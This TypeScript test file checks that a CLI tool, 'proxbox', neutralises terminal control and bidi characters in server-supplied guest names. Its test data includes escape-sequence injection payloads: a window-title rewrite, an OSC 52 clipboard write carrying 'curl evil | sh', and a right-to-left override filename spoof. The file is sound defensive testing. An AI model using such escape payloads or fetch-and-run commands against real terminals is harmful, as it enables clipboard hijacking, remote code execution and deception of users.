// The CLI's text output against hostile server strings: a guest named with terminal escapes (window title, OSC 52
// clipboard write, colours) and a right-to-left override is printed inert by `proxbox guests` and `proxbox sync`,
// through the real path (simulator → sync → store → command); --json keeps the exact name.
import { strict as assert } from 'node:assert';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { main } from '../../src/cli/main';
import { table } from '../../src/cli/commands/inventoryView';
import { formatEvent } from '../../src/cli/eventTable';
import { terminalSafe, TERMINAL_PLACEHOLDER } from '../../src/core/text/terminal';
import { startSimulator, RunningSimulator } from '../../src/sim';
import { captureIo } from '../helpers/cliIo';

const ESC = '\u001b';
const BEL = '\u0007';
const TITLE = `${ESC}]0;pwned${BEL}`;
const CLIPBOARD = `${ESC}]52;c;${Buffer.from('curl evil | sh').toString('base64')}${BEL}`;
const COLOUR = `${ESC}[31;1mred${ESC}[0m`;
const RLO = '\u202e';
const HOSTILE_NAMES = [`title${TITLE}`, `clip${CLIPBOARD}`, `colour${COLOUR}`, `gpj.${RLO}exe`, `c1\u009b31m`, 'tab\tnew\nline\rcr'];

/** Any character that can drive a terminal or reorder text. */
// eslint-disable-next-line no-control-regex -- the test looks for exactly these
const UNSAFE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

const io = captureIo;

describe('cli: server text is made safe for the terminal', () => {
  it('terminalSafe replaces C0, DEL, C1 and bidi controls, one placeholder each, and keeps everything else', () => {
    assert.equal(terminalSafe(TITLE), `${TERMINAL_PLACEHOLDER}]0;pwned${TERMINAL_PLACEHOLDER}`);
    assert.equal(terminalSafe('a\tb\nc\rd\u0000e\u007ff\u0085g'), 'a\ufffdb\ufffdc\ufffdd\ufffde\ufffdf\ufffdg');
    for (const c of ['\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069', '\u200e', '\u200f', '\u061c']) {
      assert.equal(terminalSafe(`x${c}y`), 'x\ufffdy', c.codePointAt(0)!.toString(16));
    }
    const fine = 'Grüße, 日本, emoji 🙂, café — "quoted" [x](y) ~ é';
    assert.equal(terminalSafe(fine), fine);
    const long = `${ESC}`.repeat(200_000);
    const t0 = Date.now();
    assert.equal(terminalSafe(long), TERMINAL_PLACEHOLDER.repeat(200_000));
    assert.ok(Date.now() - t0 < 1000);
  });

  it('the table sanitizes every cell and keeps columns aligned', () => {
    const out = table([['NAME', 'NODE'], [`a${COLOUR}`, 'pve1'], ['b\nfake line', 'pve2']]);
    assert.ok(!UNSAFE.test(out), JSON.stringify(out));
    const lines = out.trimEnd().split('\n');
    assert.equal(lines.length, 3, 'a newline in a cell does not start a line');
    assert.equal(lines[1].indexOf('pve1'), lines[0].indexOf('NODE'));
  });

  it('the table takes 200,000 rows (widths without spreading the rows into Math.max)', () => {
    const rows = [['VMID', 'NAME', 'NODE']];
    for (let i = 0; i < 200_000; i++) rows.push([String(100 + i), `guest-${i}`, `pve${i % 7}`]);
    rows.push(['1', 'x'.repeat(40), 'n']);
    const out = table(rows);
    const lines = out.trimEnd().split('\n');
    assert.equal(lines.length, 200_002);
    assert.equal(lines[1].indexOf('pve0'), lines[0].indexOf('NODE'));
    assert.equal(lines[0].indexOf('NODE'), '200099'.length + 2 + 40 + 2);
  });

  it('event lines (sync, demo) sanitize messages, details, suggestions and warnings', () => {
    const lines = [
      formatEvent({ event: 'error_detail', data: { category: 'internal', message: `bad ${TITLE}`, detail: `d ${CLIPBOARD}`, suggestion: `s ${RLO}` } } as never),
      formatEvent({ event: 'step', data: { step: 'vms', status: 'failed', message: `guest ${COLOUR} failed` } } as never),
      formatEvent({ event: 'discovery', data: { message: `found ${TITLE}` } } as never, { verbose: true }),
    ];
    for (const l of lines) {
      assert.ok(l !== undefined);
      for (const part of l.split('\n')) assert.ok(!UNSAFE.test(part), JSON.stringify(part));
    }
  });

  describe('through the simulator', function () {
    this.timeout(60_000);
    let sim: RunningSimulator;
    let dir: string;
    before(async () => {
      sim = await startSimulator({ seed: 5, nodes: 2, guests: 8, jobs: 3 });
      HOSTILE_NAMES.forEach((n, i) => { sim.cluster.guests[i].name = n; });
      dir = mkdtempSync(join(tmpdir(), 'proxbox-safe-'));
    });
    after(async () => { await sim.close(); rmSync(dir, { recursive: true, force: true }); });

    it('sync, then `proxbox guests` prints the names inert and `--json` keeps them exact', async () => {
      const s = io({ PROXBOX_TOKEN_SECRET: sim.tokenSecret });
      const code = await main(['sync', '--url', sim.url, '--token-id', sim.tokenId, '--fingerprint', sim.fingerprint, '--store', dir,
        '--endpoint-id', 'lab', '--timeout-ms', '5000', '-v'], s);
      assert.equal(code, 0, s.err + s.out);
      for (const l of s.out.split('\n')) assert.ok(!UNSAFE.test(l), JSON.stringify(l));

      const t = io();
      assert.equal(await main(['guests', '--store', dir], t), 0, t.err);
      assert.ok(!UNSAFE.test(t.out.replace(/\n/g, '')), JSON.stringify(t.out));
      assert.ok(!t.out.includes(ESC) && !t.out.includes(RLO));
      assert.ok(t.out.includes(`gpj.${TERMINAL_PLACEHOLDER}exe`));
      assert.ok(t.out.includes(`title${TERMINAL_PLACEHOLDER}]0;pwned${TERMINAL_PLACEHOLDER}`));
      assert.equal(t.out.trimEnd().split('\n').length, 1 + sim.cluster.guests.length, 'one line per guest');

      const j = io();
      assert.equal(await main(['guests', '--store', dir, '--json'], j), 0, j.err);
      const names = (JSON.parse(j.out) as { name: string }[]).map((g) => g.name);
      for (const n of HOSTILE_NAMES) assert.ok(names.includes(n), `JSON keeps ${JSON.stringify(n)}`);

      const r = io();
      assert.equal(await main(['routines', '--store', dir], r), 0, r.err);
      assert.ok(!UNSAFE.test(r.out.replace(/\n/g, '')));
    });
  });
});
